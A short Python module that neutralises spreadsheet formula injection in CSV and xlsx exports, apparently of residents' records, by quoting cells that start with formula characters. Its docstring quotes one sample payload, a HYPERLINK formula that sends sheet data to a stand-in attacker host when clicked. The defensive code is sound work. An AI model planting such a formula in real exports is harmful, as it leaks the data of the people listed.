"""Cells that are safe to open: resident text never becomes a spreadsheet formula.

Excel and WPS evaluate a CSV cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return as a formula (``=HYPERLINK("http://evil.example/?d="&D2,"详情")`` sends the sheet's data
away when clicked).  CSV cells that start so get a leading ``'``, which both show as text and which
``from_csv`` removes again on import; xlsx cells are stored as text with Excel's quote prefix, so
they stay text when edited.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def risky(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START)


def csv_cell(value: Any) -> Any:
    return "'" + value if risky(value) else value


def csv_row(row: Iterable[Any]) -> list[Any]:
    return [csv_cell(v) for v in row]


def from_csv(value: str) -> str:
    """A cell as read back from a CSV this project (or a careful office) wrote."""
    return value[1:] if value.startswith("'") and risky(value[1:]) else value


def append_row(sheet: Any, row: Iterable[Any]) -> None:
    """``sheet.append(row)`` for openpyxl, with every risky string stored as text, not a formula."""
    values = list(row)
    sheet.append(["" if risky(v) else v for v in values])
    cells = sheet[sheet.max_row]
    for cell, value in zip(cells, values):
        if risky(value):
            cell.value = value
            cell.data_type = "s"  # openpyxl reads a leading "=" as a formula; this is text
            cell.quotePrefix = True
